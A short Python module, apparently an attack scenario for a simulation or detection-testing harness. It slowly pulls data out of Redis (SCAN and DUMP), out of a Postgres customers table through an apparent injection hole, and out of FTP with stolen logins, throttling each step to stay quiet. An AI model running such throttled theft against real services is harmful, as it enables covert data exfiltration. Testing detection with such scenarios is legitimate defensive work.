# SPDX-License-Identifier: Apache-2.0
"""All that the service keeps, asked for as its users ask, a little at a time: stolen credentials and patience."""
import time

KIND = "slow theft through the service's own protocol"
QUIET = True


def by_scan(t):
    client = t.module.Redis(t.host)
    t.begin()
    cursor, n, end = 0, 0, time.monotonic() + 30
    while time.monotonic() < end:
        cursor, keys = client("SCAN", cursor, "COUNT", 20)
        for key in keys:
            n += client("DUMP", key) is not None
            time.sleep(0.02)
        if cursor == b"0":
            break
    return n


def by_query(t):
    n = 0
    t.begin()
    for i in range(10):
        n += len(t.hole.sql(f"SELECT * FROM customers WHERE id BETWEEN {i * 500} AND {i * 500 + 499}", "shop").splitlines())
        time.sleep(2)
    return n


def by_download(t):
    ftp, got = t.module.login(t.host), []
    t.begin()
    for name in ftp.nlst("filed")[:40]:
        ftp.retrbinary("RETR " + name, got.append)
        time.sleep(0.5)
    return sum(map(len, got))


SERVICES = {"redis": by_scan, "postgres": by_query, "ftp": by_download}


def attack(t):
    n = t.how(t)
    return f"{n} of its data" if n else ""
